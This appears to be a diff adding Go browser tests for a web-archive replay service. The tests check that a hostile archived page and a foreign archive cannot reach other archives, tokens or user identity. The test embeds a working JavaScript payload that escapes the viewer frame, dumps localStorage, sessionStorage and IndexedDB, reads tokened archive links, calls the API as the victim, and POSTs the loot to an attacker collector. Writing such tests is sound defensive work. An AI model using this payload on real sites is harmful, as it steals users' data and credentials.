@@ -1,0 +1,340 @@
+package api_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/capture-ledger/ledgerctl/pkg/wacz"
+)
+
+// hostilePage is the archived page whose script attacks whoever replays
+// it: it escapes the viewer's rewriting to reach the real top window, takes
+// what that window's origin keeps (storage, IndexedDB, the tokens in it),
+// reads every archive it finds a link to, calls the API with the identity
+// it found (or the victim's known name), and reports all of it — into its
+// own page, where the test reads it, and to an outside collector.
+const hostilePage = "https://hostile.example.test/"
+
+// hostileScript is the attack. COLLECTOR is replaced by the collector's
+// address when the archive is made.
+const hostileScript = `
+(async function () {
+  var out = { ran: true, reads: [], api: [] };
+  var T = window;
+  try { T = Function("return top")(); out.escaped = T !== window; } catch (e) { out.top = "ERR " + e; }
+  try { out.origin = String(T.origin); } catch (e) { out.origin = "ERR " + e; }
+  try { out.localStorage = JSON.stringify(Object.assign({}, T.localStorage)); } catch (e) { out.localStorage = "ERR " + e; }
+  try { out.sessionStorage = JSON.stringify(Object.assign({}, T.sessionStorage)); } catch (e) { out.sessionStorage = "ERR " + e; }
+  var dump = "";
+  function req(r) { return new Promise(function (ok, no) { r.onsuccess = function () { ok(r.result); }; r.onerror = function () { no(r.error); }; }); }
+  try {
+    var dbs = await T.indexedDB.databases();
+    for (var i = 0; i < dbs.length; i++) {
+      var db = await req(T.indexedDB.open(dbs[i].name));
+      var names = Array.from(db.objectStoreNames);
+      for (var j = 0; j < names.length; j++) {
+        try {
+          var all = await req(db.transaction(names[j]).objectStore(names[j]).getAll());
+          dump += dbs[i].name + "/" + names[j] + ":" + JSON.stringify(all, function (k, v) {
+            if (v instanceof Uint8Array) { return new TextDecoder().decode(v); }
+            if (v instanceof ArrayBuffer) { return new TextDecoder().decode(new Uint8Array(v)); }
+            return v;
+          }).slice(0, 300000) + "\n";
+        } catch (e) { dump += names[j] + " ERR " + e + "\n"; }
+      }
+      db.close();
+    }
+  } catch (e) { dump += "ERR " + e; }
+  out.idb = dump;
+  // Every archive read the origin knows of, with its token.
+  var links = dump.match(/(https?:\/\/[^"\s\\]*|\/[^"\s\\]*)wacz[^"\s\\]*[?&]t=[A-Za-z0-9_.%-]+/g) || [];
+  var seen = {};
+  for (var k = 0; k < links.length && k < 20; k++) {
+    var u = links[k];
+    if (seen[u]) { continue; }
+    seen[u] = true;
+    try {
+      var r = await T.fetch(u, { headers: { Range: "bytes=0-1048575" }, cache: "no-store" });
+      var body = new TextDecoder("latin1").decode(new Uint8Array(await r.arrayBuffer()));
+      out.reads.push(u + " -> " + r.status + " " + body);
+    } catch (e) { out.reads.push(u + " -> ERR " + e); }
+  }
+  // The API, as the identity the origin keeps (else the victim's known name).
+  var subject = "alice", orgs = "acme";
+  try {
+    var ls = T.localStorage;
+    for (var n = 0; n < ls.length; n++) {
+      var key = ls.key(n), val = ls.getItem(key);
+      if (/subject/i.test(key)) { subject = val; }
+      if (/org/i.test(key)) { orgs = val; }
+    }
+  } catch (e) {}
+  var port = out.origin.split(":").pop();
+  var apis = [out.origin, "http://127.0.0.1:" + port, "http://localhost:" + port];
+  for (var a = 0; a < apis.length; a++) {
+    try {
+      var res = await T.fetch(apis[a] + "/api/archives", { headers: { "X-Capture-ledger-Subject": subject, "X-Capture-ledger-Organizations": orgs }, cache: "no-store" });
+      out.api.push(apis[a] + " -> " + res.status + " " + (await res.text()));
+    } catch (e) { out.api.push(apis[a] + " -> ERR " + e); }
+  }
+  var report = JSON.stringify(out);
+  try { await T.fetch("COLLECTOR", { method: "POST", mode: "no-cors", body: report }); } catch (e) {}
+  document.getElementById("loot").textContent = "LOOT:" + report + ":LOOT";
+})();
+`
+
+// hostileWACZ is an archive of hostilePage carrying the attack, reporting
+// to collector.
+func hostileWACZ(t *testing.T, collector string) []byte {
+	t.Helper()
+	at := time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC)
+	body := `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title></head>` +
+		`<body><h1>A page someone got captured</h1><pre id="loot">waiting</pre>` +
+		`<script>` + strings.ReplaceAll(hostileScript, "COLLECTOR", collector) + `</script></body></html>`
+	c := wacz.Capture{
+		Created:  at.Add(time.Second),
+		Software: "ledgerctl test",
+		Exchanges: []wacz.Exchange{{URL: hostilePage, Date: at, Status: 200, Body: []byte(body),
+			RequestHeader: http.Header{"User-Agent": {"ledgerctl-test"}}, Header: http.Header{"Content-Type": {"text/html; charset=utf-8"}}}},
+		Pages: []wacz.Page{{URL: hostilePage, Date: at, Title: "Hostile", Text: "A page someone got captured"}},
+	}
+	var buf bytes.Buffer
+	if _, err := wacz.Write(&buf, c); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// collector is the attacker's server: it keeps whatever is sent to it and
+// serves an archive of its own to any origin.
+type collector struct {
+	mu       sync.Mutex
+	received []string
+	waczHits int
+	wacz     []byte
+}
+
+func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	w.Header().Set("Access-Control-Allow-Origin", "*")
+	w.Header().Set("Access-Control-Allow-Headers", "*")
+	w.Header().Set("Access-Control-Expose-Headers", "Content-Length, Content-Range, Accept-Ranges")
+	if r.Method == http.MethodOptions {
+		w.WriteHeader(http.StatusNoContent)
+		return
+	}
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	if strings.HasSuffix(r.URL.Path, ".wacz") {
+		c.waczHits++
+		http.ServeContent(w, r, "evil.wacz", time.Time{}, bytes.NewReader(c.wacz))
+		return
+	}
+	b, _ := io.ReadAll(io.LimitReader(r.Body, 8<<20))
+	c.received = append(c.received, string(b))
+}
+
+func (c *collector) snapshot() (received []string, hits int) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return append([]string(nil), c.received...), c.waczHits
+}
+
+// mintLink asks the API (POST path, with body) for a viewer link as alice
+// of acme.
+func (f *replayFixture) mintLink(t *testing.T, path, body string) string {
+	t.Helper()
+	a := f.do(t, "POST", path, map[string]string{"X-Capture-ledger-Subject": "alice", "X-Capture-ledger-Organizations": "acme"}, body)
+	if a.status != http.StatusOK {
+		t.Fatalf("POST %s: %d %s", path, a.status, a.body)
+	}
+	var link struct{ URL string }
+	if err := json.Unmarshal(a.body, &link); err != nil {
+		t.Fatal(err)
+	}
+	return link.URL
+}
+
+// openInNewTab opens link in a new tab of the browser behind parent and
+// waits until the replayed page shows want.
+func openInNewTab(t *testing.T, parent context.Context, link, want string) (context.Context, string) {
+	t.Helper()
+	tab, cancel := chromedp.NewContext(parent)
+	t.Cleanup(cancel)
+	if err := chromedp.Do(tab, chromedp.Navigate(link)); err != nil {
+		t.Fatalf("open %s: %v", link, err)
+	}
+	text := ""
+	wait := func(d time.Duration) error {
+		ctx, cancel := context.WithTimeout(tab, d)
+		defer cancel()
+		return poll(ctx, func() (bool, error) {
+			s, err := chromedp.Run(tab, chromedp.Evaluate[string](replayedTextJS))
+			text = s
+			return err == nil && strings.Contains(s, want), nil
+		})
+	}
+	// ReplayWeb.page installs its service worker on each new origin; under
+	// load its first frame can miss the worker's activation and wait for
+	// ever. A person reloads; so does the test, once.
+	if err := wait(45 * time.Second); err != nil {
+		t.Logf("nothing shown after 45 s; reloading %s once", link)
+		_ = chromedp.Do(tab, chromedp.Reload())
+		err = wait(60 * time.Second)
+	}
+	if err := wait(time.Second); err != nil {
+		diag, derr := chromedp.Run(tab, chromedp.Evaluate[string](`location.href + " | " + (navigator.serviceWorker.controller ? "controlled" : "not controlled") + " | " + (function(){ var r = document.querySelector("replay-web-page"); if (!r || !r.shadowRoot) { return "no shadow"; } var f = r.shadowRoot.querySelector("iframe"); var out = r.shadowRoot.innerHTML.slice(0, 1500); if (f) { out += " | frame " + f.src; try { out += " | " + f.contentDocument.location.href + " | " + f.contentDocument.documentElement.outerHTML.slice(0, 1500); } catch (e) { out += " ERR " + e; } } return out; })()`))
+		t.Fatalf("%q never appeared in the viewer at %s (%v); shown: %q; page: %s %v", want, link, err, text, diag, derr)
+	}
+	return tab, text
+}
+
+// TestReplayedPageCannotReachOtherArchivesOrIdentity is the attack of a
+// captured page on whoever replays it, in real Chromium: alice (a member
+// of acme, with the dev identity the picker keeps) opens acme's garden
+// archive, then an archive of a hostile page. Its script escapes the
+// viewer's rewriting to the real top window and takes what it can. It
+// must get nothing of the garden archive (its text, its token, its
+// bytes), no identity, and no answer from the API.
+func TestReplayedPageCannotReachOtherArchivesOrIdentity(t *testing.T) {
+	// Not parallel: the package's browser tests take turns on two cores.
+	chromium, viewer := needBrowser(t)
+	coll := &collector{}
+	cs := httptest.NewServer(coll)
+	t.Cleanup(cs.Close)
+	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, second: hostileWACZ(t, cs.URL+"/loot"), viewerDir: viewer})
+	garden, hostile := f.ids[0], f.ids[1]
+
+	browser := browserTab(t, chromium, 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
+	// alice signs in to the picker as people do with the dev identity.
+	if err := chromedp.Do(browser,
+		chromedp.Navigate(f.srv.URL+"/"),
+		chromedp.WaitVisible("#subject"),
+		chromedp.SendKeys("#subject", "alice"),
+		chromedp.SendKeys("#orgs", "acme"),
+		chromedp.Click("#who button"),
+		chromedp.WaitVisible(`a[href="#`+garden+`"]`),
+	); err != nil {
+		t.Fatalf("picker as alice: %v", err)
+	}
+	_, _ = openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+garden+"/replay", `{"page":"`+archivedPage+`"}`), archivedText)
+	_, shown := openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+hostile+"/replay", `{"page":"`+hostilePage+`"}`), "LOOT:")
+	_, lootJSON, _ := strings.Cut(shown, "LOOT:")
+	lootJSON, _, _ = strings.Cut(lootJSON, ":LOOT")
+	var loot struct {
+		Ran            bool
+		Escaped        bool
+		Origin         string
+		LocalStorage   string
+		SessionStorage string
+		IDB            string
+		Reads, API     []string
+	}
+	if err := json.Unmarshal([]byte(lootJSON), &loot); err != nil {
+		t.Fatalf("the hostile page's report: %v: %q", err, lootJSON)
+	}
+	if !loot.Ran || !loot.Escaped {
+		t.Fatalf("the attack did not run as written (ran %v, escaped to top %v)", loot.Ran, loot.Escaped)
+	}
+	t.Logf("the hostile page ran on %s; it found %d archive links", loot.Origin, len(loot.Reads))
+	all := strings.Join([]string{loot.LocalStorage, loot.SessionStorage, loot.IDB, strings.Join(loot.Reads, "\n"), strings.Join(loot.API, "\n")}, "\n")
+	for _, secret := range []string{archivedText, archivedText2, garden} {
+		if strings.Contains(all, secret) {
+			t.Errorf("the hostile page got %q of another archive", secret)
+		}
+	}
+	for _, r := range loot.Reads {
+		if strings.Contains(r, garden) || strings.Contains(r, "-> 200") && !strings.Contains(r, hostile) {
+			t.Errorf("the hostile page read another archive: %.200s", r)
+		}
+	}
+	if strings.Contains(loot.LocalStorage, "alice") || strings.Contains(loot.SessionStorage, "alice") {
+		t.Errorf("the hostile page found an identity in its window's storage: %s %s", loot.LocalStorage, loot.SessionStorage)
+	}
+	for _, a := range loot.API {
+		if strings.Contains(a, "-> 200") || strings.Contains(a, garden) || strings.Contains(a, "alice") {
+			t.Errorf("the API answered the hostile page: %.300s", a)
+		}
+	}
+	received, _ := coll.snapshot()
+	for _, r := range received {
+		if strings.Contains(r, archivedText) || strings.Contains(r, garden) {
+			t.Errorf("the collector received another archive's data: %.300s", r)
+		}
+	}
+}
+
+// TestReplayOriginLoadsNoForeignArchive: once a browser has opened an
+// archive, its viewer's origin (page and service worker, at every path
+// they answer) is asked to load an archive from another server. Nothing
+// of it may load: no request reaches that server and its text never shows.
+func TestReplayOriginLoadsNoForeignArchive(t *testing.T) {
+	// Not parallel: the package's browser tests take turns on two cores.
+	chromium, viewer := needBrowser(t)
+	const evilText = "This archive came from somewhere else entirely"
+	coll := &collector{}
+	at := time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC)
+	evilPage := "https://evil.example.test/"
+	var buf bytes.Buffer
+	if _, err := wacz.Write(&buf, wacz.Capture{Created: at, Software: "evil",
+		Exchanges: []wacz.Exchange{{URL: evilPage, Date: at, Status: 200,
+			Body:          []byte(`<!doctype html><html><body><p>` + evilText + `</p></body></html>`),
+			RequestHeader: http.Header{}, Header: http.Header{"Content-Type": {"text/html"}}}},
+		Pages: []wacz.Page{{URL: evilPage, Date: at, Title: "Evil", Text: evilText}},
+	}); err != nil {
+		t.Fatal(err)
+	}
+	coll.wacz = buf.Bytes()
+	cs := httptest.NewServer(coll)
+	t.Cleanup(cs.Close)
+	f := newReplayFixture(t, replayOptions{content: gardenWACZ(t), sourceURL: archivedPage, viewerDir: viewer})
+
+	browser := browserTab(t, chromium, 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
+	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
+		t.Fatal(err)
+	}
+	link := f.mintLink(t, "/api/archives/"+f.ids[0]+"/replay", `{"page":"`+archivedPage+`"}`)
+	_, _ = openInNewTab(t, browser, link, archivedText)
+	u, err := url.Parse(link)
+	if err != nil {
+		t.Fatal(err)
+	}
+	origin := u.Scheme + "://" + u.Host
+	evil := url.QueryEscape(cs.URL + "/evil.wacz")
+	// The viewer, the worker's scope (where ReplayWeb.page's worker serves
+	// its own UI once registered), and the paths the viewer had when it
+	// lived on the API's origin.
+	paths := []string{"/", "/sw/", "/replay/", "/replay/sw/"}
+	for _, p := range paths {
+		for _, form := range []string{"?source=" + evil + "&embed=default#view=pages&url=page:0", "?source=" + evil + "#view=pages&url=" + url.QueryEscape(evilPage)} {
+			tab, cancel := chromedp.NewContext(browser)
+			_ = chromedp.Do(tab, chromedp.Navigate(origin+p+form))
+			deadline := time.Now().Add(3 * time.Second)
+			for time.Now().Before(deadline) {
+				s, _ := chromedp.Run(tab, chromedp.Evaluate[string](replayedTextJS))
+				if strings.Contains(s, evilText) {
+					t.Errorf("%s%s shows the foreign archive", p, form)
+					break
+				}
+				if _, hits := coll.snapshot(); hits > 0 {
+					break
+				}
+				time.Sleep(250 * time.Millisecond)
+			}
+			cancel()
+			if _, hits := coll.snapshot(); hits > 0 {
+				t.Fatalf("%s%s on the viewer's origin fetched the foreign archive (%d reads)", p, form, hits)
+			}
+		}
+	}
+}
